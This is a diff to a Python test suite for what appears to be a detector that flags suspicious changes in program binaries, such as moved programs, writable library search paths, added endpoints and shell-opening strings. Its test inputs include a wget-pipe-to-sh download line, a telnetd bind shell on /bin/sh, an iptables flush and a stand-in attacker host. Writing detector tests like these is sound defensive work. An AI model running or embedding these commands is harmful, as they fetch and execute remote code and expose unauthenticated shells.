@@ -154,7 +154,7 @@ def test_a_script_in_the_place_of_a_program() -> None:
 def test_no_program_no_word() -> None:
     assert found(b"text", b"other text") == []
     assert rules(Programs, case({PATH: GENUINE.image}, {PATH: File(GENUINE.image, mode=0o755)})) == []
-    assert rules(Programs, case({PATH: GENUINE.image}, {"usr/sbin/moved": GENUINE.image})) == []
+    assert rules(Programs, case({PATH: GENUINE.image}, {"usr/sbin/moved": GENUINE.image})) == ["program-moved"]
 
 
 def test_without_anything_genuine_nothing_is_said() -> None:
@@ -177,10 +177,8 @@ def test_an_added_library() -> None:
 
 def test_a_search_path() -> None:
     assert linked(rpath="/usr/lib/httpd") == {"program-search-path-changed"}
-    (finding,) = (
-        each for each in found(GENUINE, GENUINE.with_(rpath="/tmp/x")) if each.rule == "program-search-path-changed"
-    )
-    assert finding.severity is Severity.HIGH
+    for path in ("/tmp/x", ".", "/lib:/var/x"):
+        assert linked(rpath=path) == {"program-search-path-writable"}
     assert "program-search-path-changed" not in both_ways(GENUINE.with_(rpath="/usr/lib"), GENUINE)
 
 
@@ -248,7 +246,7 @@ def spoken(data: bytes) -> set[str]:
 def test_texts_that_came() -> None:
     assert spoken(b"http://198.51.100.7:8080/c") == {"program-endpoint-added"}
     assert spoken(b"collector.evil.example.com") == {"program-endpoint-added"}
-    assert spoken(b"wget -q http://198.51.100.7/x -O- | sh") == {"program-endpoint-added", "program-downloads-code"}
+    assert spoken(b"wget -q http://198.51.100.7/x -O- | sh") == {"program-downloads-code"}
     assert spoken(b"telnetd -p 4444 -l /bin/sh &") == {"program-opens-shell"}
     assert spoken(b"iptables -F INPUT") == {"program-command-added"}
     assert spoken(b"-----BEGIN PUBLIC KEY-----\nMIIB") == {"program-key-added"}
